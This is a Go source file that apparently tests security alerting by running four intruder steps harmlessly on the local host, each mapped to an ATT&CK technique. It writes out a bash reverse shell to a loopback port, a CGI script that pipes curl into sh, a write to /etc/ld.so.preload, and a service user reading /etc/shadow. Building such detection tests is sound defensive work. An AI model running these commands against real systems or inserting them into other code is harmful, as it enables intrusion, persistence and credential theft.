package loop

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
	"time"
)

// Attack is one step an intruder takes first on Linux, done for real and
// harmlessly on this host.
type Attack struct {
	Name string
	// Technique is the ATT&CK technique its alert must name.
	Technique string
	Run       func(ctx context.Context, dir string) error
}

// Attacks are the steps of the README.
var Attacks = []Attack{
	{"bash reverse shell to a loopback port", "T1059.004", ReverseShell},
	{"curl | sh by a child of a web server", "T1190", WebShell},
	{"write to /etc/ld.so.preload", "T1574.006", Preload},
	{"service user reads /etc/shadow", "T1003.008", ReadShadow},
}

// attackPatience bounds one step; none takes a second on an idle machine.
const attackPatience = 20 * time.Second

// ReverseShell has bash connect to a loopback port with its standard streams
// on the socket, and runs one command in that shell.
func ReverseShell(ctx context.Context, _ string) error {
	ctx, cancel := context.WithTimeout(ctx, attackPatience)
	defer cancel()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer l.Close()
	answer := make(chan error, 1)
	go func() {
		conn, err := l.Accept()
		if err != nil {
			answer <- err
			return
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, "id; exit\n"); err != nil {
			answer <- err
			return
		}
		_, err = io.ReadAll(conn)
		if errors.Is(err, syscall.ECONNRESET) {
			err = nil // bash may close with bytes unread
		}
		answer <- err
	}()
	port := l.Addr().(*net.TCPAddr).Port
	c := exec.CommandContext(ctx, "bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
	if err := c.Run(); err != nil {
		return fmt.Errorf("reverse shell: %w", err)
	}
	return <-answer
}

// apacheConfig serves one CGI script by a prefork server in the foreground.
const apacheConfig = `
LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so
LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so
StartServers 1
ServerName localhost
Listen 127.0.0.1:%[1]d
User www-data
Group www-data
PidFile %[2]s/apache.pid
ErrorLog %[2]s/error.log
DocumentRoot %[2]s
ScriptAlias /cgi-bin/ %[2]s/cgi-bin/
`

// WebShell runs a real Apache whose CGI script, as a broken application
// would, fetches a script by curl and pipes it into sh.
func WebShell(ctx context.Context, dir string) error {
	ctx, cancel := context.WithTimeout(ctx, attackPatience)
	defer cancel()
	payload, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		io.WriteString(w, "id >/dev/null\n")
	})}
	defer server.Close()
	go server.Serve(payload) // ends with Close

	root, err := os.MkdirTemp(dir, "web")
	if err != nil {
		return err
	}
	// The workers run as www-data and must reach the script.
	for p := root; p != "/" && p != "/tmp"; p = filepath.Dir(p) {
		if err := os.Chmod(p, 0o755); err != nil {
			return err
		}
	}
	script := fmt.Sprintf("#!/bin/sh\ncurl -s http://%s/ | sh\nprintf 'Content-Type: text/plain\\n\\nowned\\n'\n", payload.Addr())
	if err := os.MkdirAll(filepath.Join(root, "cgi-bin"), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(root, "cgi-bin", "shop"), []byte(script), 0o755); err != nil {
		return err
	}
	port, err := freePort()
	if err != nil {
		return err
	}
	config := filepath.Join(root, "apache.conf")
	if err := os.WriteFile(config, fmt.Appendf(nil, apacheConfig, port, root), 0o644); err != nil {
		return err
	}
	apache := exec.CommandContext(ctx, "/usr/sbin/apache2", "-f", config, "-DFOREGROUND")
	// Apache ends its whole process group, so it gets one of its own.
	apache.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	apache.Cancel = func() error { return apache.Process.Signal(syscall.SIGTERM) }
	if err := apache.Start(); err != nil {
		return fmt.Errorf("start apache: %w", err)
	}
	defer func() {
		cancel()
		apache.Wait()
	}()
	url := fmt.Sprintf("http://127.0.0.1:%d/cgi-bin/shop", port)
	for {
		body, err := get(ctx, url)
		if err == nil {
			if string(body) != "owned\n" {
				return fmt.Errorf("the script answered %q", body)
			}
			return nil
		}
		if ctx.Err() != nil || !errors.Is(err, syscall.ECONNREFUSED) {
			log, _ := os.ReadFile(filepath.Join(root, "error.log")) // best effort: only for the message
			return fmt.Errorf("ask apache: %w\n%s", err, log)
		}
		select {
		case <-time.After(20 * time.Millisecond): // until Apache listens
		case <-ctx.Done():
		}
	}
}

func get(ctx context.Context, url string) ([]byte, error) {
	request, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	response, err := http.DefaultClient.Do(request)
	if err != nil {
		return nil, err
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err == nil && response.StatusCode != http.StatusOK {
		err = fmt.Errorf("%s: %s", response.Status, body)
	}
	return body, err
}

func freePort() (int, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return 0, err
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port, nil
}

// Preload writes an empty line to /etc/ld.so.preload, which changes nothing
// for the loader, and takes it back. It refuses where the file exists.
func Preload(context.Context, string) error {
	const path = "/etc/ld.so.preload"
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o644)
	if err != nil {
		return fmt.Errorf("attack %s: %w", path, err)
	}
	_, err = f.WriteString("\n")
	return errors.Join(err, f.Close(), os.Remove(path))
}

// wwwData is Debian's uid and gid of www-data (base-passwd).
const wwwData = 33

// ReadShadow has a service user try to read /etc/shadow.
func ReadShadow(ctx context.Context, _ string) error {
	c := exec.CommandContext(ctx, "cat", "/etc/shadow")
	c.Dir = "/"
	c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: wwwData, Gid: wwwData}}
	out, err := c.CombinedOutput()
	if err == nil {
		return errors.New("www-data can read /etc/shadow on this machine")
	}
	var exit *exec.ExitError
	if !errors.As(err, &exit) {
		return fmt.Errorf("run cat as www-data: %w: %s", err, out)
	}
	return nil
}
